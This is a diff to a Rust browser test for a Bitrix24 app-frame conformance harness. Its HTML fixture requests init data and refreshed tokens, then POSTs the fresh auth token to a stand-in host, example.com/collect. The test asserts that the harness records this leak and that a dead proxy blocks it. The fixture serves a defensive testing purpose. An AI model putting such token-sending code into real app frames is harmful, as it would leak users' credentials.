@@ -11,25 +11,37 @@ use axum::Router;
 use axum::extract::State;
 use axum::response::Html;
 use axum::routing::{get, post};
-use b24_conform::browser::{Browser, FrameCase, find_chromium};
+use b24_conform::browser::{Browser, FrameCase};
 use serde_json::json;
+
+mod common;
+
+use common::chromium;
 
 /// A frame written the way @bitrix24/b24jssdk's B24Frame talks to its parent
 /// (packages/jssdk/src/loader-b24frame.ts, frame/message/controller.ts): it reads
-/// `DOMAIN|PROTOCOL|APP_SID` from window.name, asks for its init data, then sets its title to
-/// what the answer held.
+/// `DOMAIN|PROTOCOL|APP_SID` from window.name, asks for its init data, then for fresh tokens,
+/// sets its title to what the answers held, and posts its token to a host that is not loopback
+/// (which the browser must not reach).
 const FRAME: &str = r#"<!DOCTYPE html><html><body><p id="out">waiting</p><script>
 var parts = window.name.split('|');
 var origin = (parts[1] === '1' ? 'https' : 'http') + '://' + parts[0];
 var sid = parts[2];
+var text = '';
 window.addEventListener('message', function (event) {
   if (event.origin !== origin) return;
   var i = event.data.indexOf(':');
-  if (event.data.slice(0, i) !== 'init1') return;
+  var key = event.data.slice(0, i);
   var data = JSON.parse(event.data.slice(i + 1));
-  var text = data.LANG + '/' + data.PLACEMENT_OPTIONS.ID + '/' + data.AUTH_ID;
-  document.getElementById('out').textContent = text;
-  parent.postMessage('setTitle:' + JSON.stringify({ title: text }) + ':title1:' + sid, origin);
+  if (key === 'init1') {
+    text = data.LANG + '/' + data.PLACEMENT_OPTIONS.ID + '/' + data.AUTH_ID;
+    parent.postMessage('refreshAuth:refresh1:' + sid, origin);
+  } else if (key === 'refresh1') {
+    text += '/' + data.AUTH_ID;
+    document.getElementById('out').textContent = text;
+    parent.postMessage('setTitle:' + JSON.stringify({ title: text }) + ':title1:' + sid, origin);
+    fetch('http://example.com/collect', { method: 'POST', body: 'token=' + data.AUTH_ID }).catch(function () {});
+  }
 });
 parent.postMessage('getInitData:init1:' + sid, origin);
 </script></body></html>"#;
@@ -46,23 +58,6 @@ async fn serve(router: Router) -> String {
     let origin = format!("http://{}", listener.local_addr().unwrap());
     tokio::spawn(async move { axum::serve(listener, router).await });
     origin
-}
-
-/// Whether Chromium is here; CI must have it.
-fn chromium() -> Option<std::path::PathBuf> {
-    let found = find_chromium();
-    if found.is_none() {
-        assert!(
-            std::env::var_os("CI").is_none(),
-            "Chromium is missing, and CI must run the frame tests: apt-get install -y chromium"
-        );
-        // Straight to the process's stderr: libtest captures `eprintln!` of a passing test.
-        let _ = std::io::stderr().write_all(
-            b"\n!!!!!!!! Chromium is missing: the frame tests were SKIPPED.\n\
-              !!!!!!!! Install it (Debian: apt-get install -y chromium) and run the tests again.\n\n",
-        );
-    }
-    found
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -102,6 +97,7 @@ async fn the_portal_page_answers_get_init_data_and_records_the_commands() {
             "DOMAIN": domain, "PROTOCOL": "0", "LANG": "en",
             "PLACEMENT": "LANDING_SETTINGS", "PLACEMENT_OPTIONS": { "ID": "7" },
         }),
+        refresh_data: json!({ "AUTH_ID": "fresh-1", "REFRESH_ID": "fresh-refresh-1", "AUTH_EXPIRES": "3600" }),
     };
     let (good, bad) = (case("frame"), case("throws"));
     let portal = Router::new()
@@ -125,14 +121,22 @@ async fn the_portal_page_answers_get_init_data_and_records_the_commands() {
     assert!(body.contains("AUTH_ID=token-1"), "{body}");
     // The frame asked for its init data, the page answered, and the frame used the answer.
     let names: Vec<&str> = good.commands.iter().map(|c| c.command.as_str()).collect();
-    assert_eq!(names, ["getInitData", "setTitle"], "{good:?}");
+    assert_eq!(names, ["getInitData", "refreshAuth", "setTitle"], "{good:?}");
     let init = &good.commands[0];
     assert!(init.answered && init.app_sid == "sid42" && init.callback == "init1", "{init:?}");
     assert_eq!(init.origin, handler);
-    assert_eq!(good.commands[1].params, r#"{"title":"en/7/token-1"}"#);
+    // refreshAuth was answered with the case's fresh pair.
+    assert_eq!(good.commands[2].params, r#"{"title":"en/7/token-1/fresh-1"}"#);
+    // A host that is not loopback is never reached: the request fails at the dead proxy, and
+    // the record keeps where it went and what it carried.
+    let leak = good.requests.iter().find(|r| r.url.starts_with("http://example.com/")).expect("the leak is recorded");
+    assert_eq!(leak.body.as_deref(), Some("token=fresh-1"), "{leak:?}");
+    assert_eq!(leak.failed.as_deref(), Some("net::ERR_PROXY_CONNECTION_FAILED"), "{leak:?}");
+    assert!(leak.status.is_none(), "{leak:?}");
+    // The form's POST was answered.
+    assert!(good.requests.iter().any(|r| r.method == "POST" && r.url.ends_with("/frame") && r.status == Some(200)));
     assert!(good.initialised());
     assert!(good.exceptions.is_empty() && good.console_errors.is_empty(), "{good:?}");
-    assert!(good.requests.iter().any(|r| r.method == "POST" && r.url.ends_with("/frame")));
     assert!(good.screenshot.starts_with(b"\x89PNG"), "a PNG screenshot");
 
     // The faulty frame: its exception and console error are recorded, and it never initialised.
